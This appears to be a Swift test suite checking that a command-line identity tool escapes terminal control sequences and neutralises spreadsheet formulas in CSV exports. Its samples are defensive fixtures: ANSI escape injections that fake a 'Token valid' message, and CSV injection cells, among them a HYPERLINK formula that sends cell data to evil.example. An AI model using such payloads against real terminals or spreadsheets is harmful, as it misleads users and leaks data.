import Foundation
import Testing

/// Outside data reaches the terminal escaped, and an exported CSV file neither runs in a spreadsheet nor
/// loses a value on its way back in.
@Suite struct OutputSafetyTests {
  static let escape = "\u{1B}"

  /// Human output holds no raw ESC, and shows it as `\u{1B}` instead.
  func expectEscaped(_ text: String, _ comment: Comment, sourceLocation: SourceLocation = #_sourceLocation) {
    #expect(!text.contains(Self.escape), comment, sourceLocation: sourceLocation)
    #expect(text.contains("\\u{1B}[2J"), comment, sourceLocation: sourceLocation)
  }

  func base64URL(_ text: String) -> String {
    Data(text.utf8).base64EncodedString().replacingOccurrences(of: "+", with: "-")
      .replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: "")
  }

  /// An unsigned token whose kid clears the screen and prints a fake verdict: the refusal shows the kid
  /// escaped, on the error's one line.
  @Test func tokenVerifyShowsAHostileKidEscaped() throws {
    let work = try LifecycleTests.Workspace()
    defer { work.remove() }
    _ = try work.json([
      "init", "--environment", "test", "--scrypt-cost", "10", "--key-alg", "ES256", "--json",
    ])
    let header =
      #"{"alg":"ES256","kid":"\u001b[2J\u001b[HToken valid: signed by the published key\n","typ":"JWT"}"#
    let token = base64URL(header) + "." + base64URL(#"{"aud":"app"}"#) + ".AAAA"
    let result = try work.run(["token", "verify", "--client", "app", token])
    #expect(result.status == 2)
    expectEscaped(result.stderr, "\(result.stderr)")
    #expect(result.stderr.split(separator: "\n").count == 1, "the kid's line feed is shown as \\u{A}")
    #expect(result.stderr.contains("\\u{A}"))
  }

  /// A JSON Lines key holding ESC is named in the row's problem, escaped.
  @Test func importShowsAHostileJSONLinesKeyEscaped() throws {
    let work = try LifecycleTests.Workspace()
    defer { work.remove() }
    _ = try work.json(["init", "--environment", "test", "--scrypt-cost", "10", "--json"])
    let file = try work.file(
      "people.jsonl", #"{"pid":"18929590232","\u001b[2J\u001b[1;1HImported 1 account":1}"# + "\n")
    let result = try work.run(["account", "import", file])
    #expect(result.status == 65)
    expectEscaped(result.stderr, "\(result.stderr)")
  }

  /// A directory name with ESC, kept in the audit trail by `outbox drain`, is escaped by `audit list` and
  /// by drain's own report.
  @Test func auditListShowsAHostileDetailEscaped() throws {
    let work = try LifecycleTests.Workspace()
    defer { work.remove() }
    _ = try work.json(["init", "--environment", "test", "--scrypt-cost", "10", "--json"])
    _ = try work.json([
      "account", "register", "--pid", "18929590232", "--phone", "91234567", "--email", "k@example.no",
      "--address", "Storgata 1", "--json",
    ])
    let directory = work.directory.appendingPathComponent("out\u{1B}[2Jx")
    try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
    let drain = try work.run(["outbox", "drain", "--to-dir", directory.path])
    #expect(drain.status == 0, "\(drain.stderr)")
    expectEscaped(drain.stdout, "\(drain.stdout)")
    let audit = try work.run(["audit", "list"])
    #expect(audit.status == 0)
    expectEscaped(audit.stdout, "\(audit.stdout)")
    let show = try work.run(["outbox", "show", "1"])
    expectEscaped(show.stdout, "\(show.stdout)")
  }

  /// Export → import into a fresh store gives the same values, though the file escapes every cell a
  /// spreadsheet would run (the phone numbers start with `+`).
  @Test func exportedCSVRunsNoFormulaAndImportsToTheSameValues() throws {
    let source = try LifecycleTests.Workspace()
    defer { source.remove() }
    _ = try source.json(["init", "--environment", "test", "--scrypt-cost", "10", "--json"])
    let people: [(pid: String, email: String, address: String)] = [
      ("18929590232", "=1+2@example.no", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")"),
      ("10919695329", "-kari@example.no", "@SUM(1+1)\nStorgata 1, 0155 Oslo"),
    ]
    for person in people {
      _ = try source.json([
        "account", "register", "--pid", person.pid, "--phone", "+4791234567", "--email", person.email,
        "--address", person.address, "--json",
      ])
    }
    let exported = try source.run(["account", "export", "--include-pii", "--format", "csv"])
    #expect(exported.status == 0)
    #expect(exported.stdout.contains(",'+4791234567,'=1+2@example.no,\"'=HYPERLINK("))
    #expect(exported.stdout.contains(",'+4791234567,'-kari@example.no,\"'@SUM(1+1)\nStorgata 1, 0155 Oslo\""))
    // No cell, quoted or not, starts with a formula character.
    for line in exported.stdout.split(separator: "\n") where !line.hasPrefix("Storgata") {
      for cell in line.split(separator: ",") {
        let start = cell.drop { $0 == "\"" }.first
        #expect(!"=+-@\t\r".contains(start ?? "x"), "\(cell)")
      }
    }

    let target = try LifecycleTests.Workspace()
    defer { target.remove() }
    _ = try target.json(["init", "--environment", "test", "--scrypt-cost", "10", "--json"])
    let file = try target.file("people.csv", exported.stdout)
    let imported = try target.run(["account", "import", file])
    #expect(imported.status == 0, "\(imported.stderr)")
    func values(_ work: LifecycleTests.Workspace) throws -> [[String]] {
      let lines = try work.run(["account", "export", "--include-pii", "--format", "jsonl"]).stdout
      return try lines.split(separator: "\n").map { line in
        let object = try #require(
          try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: String])
        return [object["pid"], object["phone"], object["email"], object["address"], object["state"]].map {
          $0 ?? "?"
        }
      }
    }
    let before = try values(source)
    #expect(before.count == 2 && before[0][1] == "+4791234567" && before[1][3].hasPrefix("@SUM"))
    #expect(try values(target) == before)
  }

  /// Files saved by Excel: "CSV UTF-8" (with a byte-order mark) and Norwegian Excel's `;`-separated CSV.
  @Test(arguments: ["excel-utf8-bom.csv", "excel-norwegian-semicolon.csv"])
  func importReadsSpreadsheetCSV(_ name: String) throws {
    let work = try LifecycleTests.Workspace()
    defer { work.remove() }
    _ = try work.json(["init", "--environment", "test", "--scrypt-cost", "10", "--json"])
    let path = MinIDBinary.packageRoot.appendingPathComponent("Fixtures/csv/\(name)").path
    let result = try work.run(["account", "import", path])
    #expect(result.status == 0, "\(result.stderr)")
    #expect(result.stderr.contains("Imported 2 accounts"))
    let shown = try work.json(["account", "show", "--pid", "18929590232", "--reveal", "--json"])
    #expect(shown["phone"] as? String == "+4791234567")
    #expect(shown["address"] as? String == "Storgata 1, 0155 Oslo")
  }
}
